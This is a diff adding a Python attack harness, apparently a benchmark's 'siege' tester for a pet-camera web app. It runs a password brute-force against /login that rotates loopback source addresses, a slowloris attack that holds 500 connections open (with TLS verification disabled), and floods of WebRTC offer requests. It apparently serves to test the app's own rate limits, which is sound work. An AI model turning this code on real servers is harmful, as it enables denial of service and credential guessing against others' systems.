@@ -1,0 +1,116 @@
+"""Who attacks in the subject ``siege``, each in a process of its own: ``python -m bench.attacker KIND HOST PORT``.
+
+``passwords`` guesses 5,000, each from an address of its own; ``slow`` and ``slow-tls`` hold 500 connections that never
+finish their request, until they are killed; ``offers`` makes 1,000 with tokens of the session whose cookie comes on
+stdin, ``strangers`` as many without. They print how many answers of each status they had.
+"""
+
+import asyncio
+import http.client
+import json
+import ssl
+import sys
+from collections import Counter
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
+
+PASSWORDS, CONNECTIONS, OFFERS = 5000, 500, 1000
+AT_ONCE = 16
+SDP = """v=0
+o=- 1 1 IN IP4 0.0.0.0
+s=-
+t=0 0
+a=group:BUNDLE 0
+m=video 9 UDP/TLS/RTP/SAVPF 96
+c=IN IP4 0.0.0.0
+a=mid:0
+a=recvonly
+a=rtcp-mux
+a=ice-ufrag:abcd
+a=ice-pwd:abcdefghijklmnopqrstuvwx
+a=fingerprint:sha-256 {fingerprint}
+a=setup:actpass
+a=rtpmap:96 H264/90000
+a=fmtp:96 level-asymmetry-allowed=1;packetization-mode=1;profile-level-id=42e01f
+""".replace("\n", "\r\n").format(fingerprint=":".join(["AB"] * 32))
+
+
+def passwords(host: str, port: int) -> Counter[int]:
+    form = {"Content-Type": "application/x-www-form-urlencoded"}
+
+    def guess(number: int) -> int:
+        source = f"127.{number % 200 + 1}.{number // 200}.7"
+        return ask(host, port, "/login", f"password=guess+{number}", form, source)
+
+    return at_once(guess, PASSWORDS)
+
+
+def strangers(host: str, port: int) -> Counter[int]:
+    body = json.dumps({"type": "offer", "sdp": SDP})
+    return at_once(lambda _: ask(host, port, "/api/webrtc/offer", body, {"Content-Type": "application/json"}), OFFERS)
+
+
+def offers(host: str, port: int) -> Counter[int]:
+    """Through petcam-web: the streamer counts those together, not by address."""
+    cookie, body = sys.stdin.readline().strip(), json.dumps({"type": "offer", "sdp": SDP})
+
+    def offer(_: int) -> int:
+        connection = http.client.HTTPConnection(host, port, timeout=30)
+        connection.request("GET", "/api/webrtc/config", headers={"Cookie": cookie})
+        token = json.load(connection.getresponse())["token"]
+        connection.close()
+        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {token}", "Cookie": cookie}
+        return ask(host, port, "/api/webrtc/offer", body, headers)
+
+    return at_once(offer, OFFERS)
+
+
+def ask(host: str, port: int, path: str, body: str, headers: dict[str, str], source: str = "") -> int:
+    """The status of a POST; 0: no answer."""
+    connection = http.client.HTTPConnection(host, port, timeout=30, source_address=(source, 0) if source else None)
+    try:
+        connection.request("POST", path, body, headers)
+        return connection.getresponse().status
+    except (OSError, http.client.HTTPException):
+        return 0
+    finally:
+        connection.close()
+
+
+def at_once(call: Callable[[int], int], count: int) -> Counter[int]:
+    with ThreadPoolExecutor(AT_ONCE) as callers:
+        return Counter(callers.map(call, range(count)))
+
+
+async def slow(host: str, port: int, tls: bool) -> None:
+    await asyncio.gather(*(_hold(host, port, tls) for _ in range(CONNECTIONS)))
+
+
+async def _hold(host: str, port: int, tls: bool) -> None:
+    """One connection after the other, of each a header a second."""
+    context = ssl._create_unverified_context() if tls else None
+    while True:
+        with suppress(OSError):
+            reader, writer = await asyncio.open_connection(host, port, ssl=context)
+            gone = asyncio.ensure_future(reader.read())
+            writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
+            while not gone.done():
+                writer.write(b"X-More: 1\r\n")
+                await asyncio.wait([gone], timeout=1)
+            gone.exception()
+            writer.close()
+        await asyncio.sleep(0.1)
+
+
+def main() -> None:
+    kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+    if kind in ("slow", "slow-tls"):
+        asyncio.run(slow(host, port, kind == "slow-tls"))
+    else:
+        attack = {"passwords": passwords, "strangers": strangers, "offers": offers}[kind]
+        print(json.dumps(attack(host, port)))
+
+
+if __name__ == "__main__":
+    main()
